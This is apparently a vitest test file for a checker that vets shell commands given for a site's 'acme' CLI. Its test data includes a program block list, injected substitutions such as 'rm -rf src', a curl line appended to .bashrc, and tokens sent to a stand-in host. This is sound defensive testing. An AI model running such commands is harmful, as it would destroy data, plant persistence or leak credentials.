import { describe, expect, test } from 'vitest'
import { checkCommands } from '#commands/check.ts'
import { claimFault } from '#commands/tool-commands.ts'

// Put together as the tests run: no file names the host of a stranger.
const stranger = ['evil-corp', 'io'].join('.')
const address = ['93', '184', '216', '34'].join('.')

test.each([
  ...['curl', 'curl.exe', 'python3.12', 'pip3', 'apt-get', 'brew', 'yarn', 'busybox', 'awk'],
  ...['gh', 'systemctl', 'tee', 'lua5.4', 'npm.cmd', 'node-22', 'clang', 'npm-12', 'sh', 'node'],
  ...['bash.exe', 'invoke-expression', 'get-content', 'pnpx', 'tsc', 'coproc', 'noglob', 'call'],
])('%s is no program that a tool brings, whatever the owner lists', (program) => {
  expect(claimFault(program, [program])?.message).toMatch(/is not a program of this tool/)
})

test.each(['acme', 'acme2', 'acme-deploy', 'nodeploy', 'curlew'])(
  'the owner may list %s',
  (one) => {
    expect(claimFault(one, [one])).toBeUndefined()
  },
)

test.each([
  ...['rimraf', 'unlink', 'cross-env', 'run0', 'forfiles', 'sshpass', 'xdg-open', 'acme-evil'],
  ...['gosu', 'sdelete', 'bsdtar', 'vault', 'swaks', 'wormhole', 'pcalua', 'explorer', 'trash'],
])('%s is no program of a tool where the owner does not list it', (program) => {
  expect(claimFault(program, ['acme'])?.message).toMatch(/the owner of the site lists/)
})

const acme = {
  commands: { programs: ['acme'], reads: ['acme status'] },
  homepage: 'https://tools.acme.example/acme-cli',
  documentation: 'https://docs.acme.example/',
}

function faults(text: string, shell: 'sh' | 'powershell' = 'sh'): string {
  const label = { effect: 'changes-machine', system: null, otherForm: false } as const
  const command = { shell, text, ...label, placeholders: [], line: 0 }
  return checkCommands([command], {}, process.cwd(), [acme])
    .map(({ message }) => message)
    .join('\n')
}

describe('a command of a tool of the team', () => {
  test.each([
    'acme status',
    'acme deploy ./app.yaml packages/widgets --replicas 2 --note "First try (again)"',
    'acme deploy app.yaml --values=values.json --tag v1.2.3 widgets@1.2.0 @acme/widgets@next',
    'acme login --server docs.acme.example:8443 --token $ACME_TOKEN',
    'acme login https://tools.acme.example/login --token "$ACME_TOKEN"',
    'acme login --server registry.example.com $ACME_TOKEN',
    'acme status ~/.config/acme/config.toml ../service/app.sh',
    'acme status --from 2026-11-28 --url http://localhost:3000/',
    'acme status | grep widgets',
  ])('%s may be given', (text) => {
    expect(faults(text)).toBe('')
  })

  test.each([
    ...['>> ../.bashrc', '>> .npmrc', '>> package.json', '>>.gitignore', '>> .gitignore', '> x'],
    ...['"curl -s https://docs.acme.example/i" >> ../.bashrc', '>> a >> b', '>> .gitignore | cat'],
  ])('acme status %s writes no file', (text) => {
    expect(faults(`acme status ${text}`)).not.toBe('')
    expect(faults(`>> x acme status ${text}`)).not.toBe('')
  })

  test.each([
    ...['HOST', 'HOST/x', '--server HOST', '--server=HOST', '-hHOST', '-h=HOST', 'git@HOST:x'],
    ...['ssh:HOST', 'HOST:8080', 's3:..HOST', '//HOST', '--url=//HOST', 'http:HOST', '@HOST'],
    ...['https://ada@HOST/x', 'https://docs.acme.example@HOST', 'x,HOST', 'HOST.', 'ftp://HOST'],
    ...['"x HOST"', "'x=HOST'", '"\\\\\\\\HOST\\\\share"', '${SERVER:-HOST}', '$X.HOST', 'a.sh'],
    ...['docs.acme.example.HOST', 'https://docs.acme.example.HOST/', 'HOST#x', 'HOST?x=./y'],
    ...['ADDRESS', 'ADDRESS:80', '--server=ADDRESS', 'ada@ADDRESS:x', '"[2001:db8::7]:80"'],
    ...[
      'evil:8080',
      'ada@evil:x',
      'ada@evil:',
      '2001:db8:0:0:0:0:0:7',
      '//evil/share',
      '--x=evil:22',
    ],
    ...['"{\\"a\\":HOST}"', '"(HOST)"', '%X%HOST', 'a|HOST', '~HOST', 'tcp://evil', 'HOST\\x'],
  ])('acme status %s names a stranger', (text) => {
    const given = text.replace('HOST', stranger).replace('ADDRESS', address)
    expect(faults(`acme status ${given}`)).not.toBe('')
  })

  test.each([
    ...[
      '$NPM_TOKEN git@HOST:x',
      '--server HOST "$ACME_SECRET"',
      '$ACME_TOKEN ada@evil',
      '-p 10.1 $X_KEY',
    ],
    ...['$ACME_PASSWORD 0x5db8d822', '%ACME_TOKEN% 1572395042', '${GITHUB_PAT} 93.184.34'],
  ])('acme copy %s gives a secret to a stranger', (text) => {
    expect(faults(`acme copy ${text.replace('HOST', stranger)}`)).toMatch(/is not a host/)
  })

  test.each(['$(acme destroy)', '"$(echo HOST)"', '"a; rm -rf src"', '"a | b"', "'a & b'"])(
    'acme status %s runs something',
    (text) => {
      expect(faults(`acme status ${text.replace('HOST', stranger)}`)).toMatch(/acts on/)
    },
  )

  test('is held against the same rules in PowerShell', () => {
    expect(faults(`acme login ${stranger} $env:ACME_TOKEN`, 'powershell')).toMatch(/is not a host/)
    expect(faults('acme login docs.acme.example $env:ACME_TOKEN', 'powershell')).toBe('')
  })
})
